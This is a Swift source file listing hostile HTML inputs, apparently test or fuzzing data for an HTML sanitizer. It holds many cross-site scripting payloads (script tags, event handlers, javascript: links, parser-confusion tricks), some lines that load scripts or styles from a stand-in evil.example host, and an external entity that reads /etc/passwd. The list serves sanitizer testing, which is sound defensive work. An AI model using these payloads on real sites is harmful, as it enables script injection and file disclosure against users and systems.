/// Markup that has run scripts somewhere: every known kind of trick, in a line each.
enum HostileHTML {
    static let all: [String] = [
        // Scripts and handlers
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">", "<b onmouseover=alert(1)>x</b>", "<b/onclick=alert(1)>x", "<b\nonclick\n=\nalert(1)>x",
        "<b onclick\u{0}=alert(1)>x", "<body onload=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>", "<xss onclick=alert(1)>x</xss>",
        // Addresses
        "<a href=javascript:alert(1)>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java&#10;script:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
        "<a href='\u{1}javascript:alert(1)'>x</a>", "<a href='javascript&colon;alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:x'>x</a>", "<a href='//evil.example'>x</a>", "<a href='/\\evil.example'>x</a>", "<a href='https:javascript:alert(1)'>x</a>",
        "<a href='http://'>x</a>", "<a href='https://a.example\" onclick=\"alert(1)'>x</a>", "<a href=\"https://a.example' onclick='alert(1)\">x</a>",
        "<a href=`javascript:alert(1)`>x</a>", "<a href='feed:javascript:alert(1)'>x</a>", "<a xlink:href='javascript:alert(1)'>x</a>",
        "<a href='https://a.example' href='javascript:alert(1)'>x</a>", "<a HREF='javascript:alert(1)' href='https://a.example'>x</a>",
        "<base href='javascript:/a/'>", "<form action=javascript:alert(1)><button>x", "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>", "<meta http-equiv=refresh content='0;javascript:alert(1)'>", "<link rel=stylesheet href=//evil.example>",
        "<math><a xlink:href=javascript:alert(1)>x", "<svg><a xlink:href=javascript:alert(1)><text>x", "<svg><animate onbegin=alert(1) attributeName=x>",
        // Styles
        "<style>@import '//evil.example'</style>", "<b style='background:url(javascript:alert(1))'>x", "<div style='position:fixed;inset:0'>x</div>",
        // Another reading of what was written
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
        "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror=alert(1)>'>",
        "<svg><foreignObject><p><style><!--</p></style><img src=x onerror=alert(1)>", "<p><svg><desc><b><style></b><img src=x onerror=alert(1)>",
        "<a><table><a href='https://a.example'><td><a>x", "<table><b><tr><td></b><script>alert(1)</script>", "<b><pre><p></b><i></pre><p></i>x",
        "<pre>\n\n<b>x</pre></b>", "<code><p><code><p>x", "<a href=https://a.example><p>x<a href=https://b.example><pre>y",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;alert(1)", "&lt", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&#0;&#xD800;&#x110000;&bogus;",
        // Comments, declarations and other syntax
        "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>", "<?php echo '<script>alert(1)</script>' ?>", "<?xml version='1.0'?><script>alert(1)</script>",
        "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;", "<!ENTITY % x SYSTEM 'file:///etc/passwd'>%x;", "</script><script>alert(1)</script>",
        "<", "<b", "<b ", "<a href='", "<!--", "</", "<>", "< b>x</ b>", "<b/ >x", "<\u{0}b>x", "<b\u{0}>x", "<%00b>", "\u{FEFF}<b>x", "<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "¼script¾alert(1)¼/script¾", "<plaintext><b>x", "<isindex type=image src=x onerror=alert(1)>",
        "<template><script>alert(1)</script></template>", "<html><head><title>x</title></head><body><b>y</b></body></html>", "<frameset onload=alert(1)>",
        "<b id=__proto__ name=cookie class=martlet data-x=1>x", "<script id=martlet-data type=application/json>{}</script>x", "<!><b>x", "x<!>y",
    ]

    /// What random markup is made of.
    static let pieces: [String] = [
        "<", ">", "</", "/>", "\"", "'", "`", "=", " ", "\n", "&", "&lt;", "&gt;", "&#60;", "&#x3c", "<!--", "-->", "<![CDATA[", "]]>", "<?", "\u{0}",
        "<b>", "</b>", "<p>", "</p>", "<pre>", "</pre>", "<a href=https://a.example>", "<a href=javascript:alert(1)>", "</a>", "<br>", "<code>", "</code>",
        "<script>", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<math>", "<mtext>", "<mglyph>", "<table>", "<td>", "</table>", "<form>", "<select>",
        "<option>", "<template>", "</template>", "<textarea>", "</textarea>", "<title>", "</title>", "<noscript>", "</noscript>", "<iframe>", "<xmp>",
        "<img src=x onerror=alert(1)>", " onclick=alert(1) ", " href=javascript:alert(1) ", "javascript:", "alert(1)", "x", "é", "🐻", "<div>", "</div>", "<html>", "<body>",
    ]
}
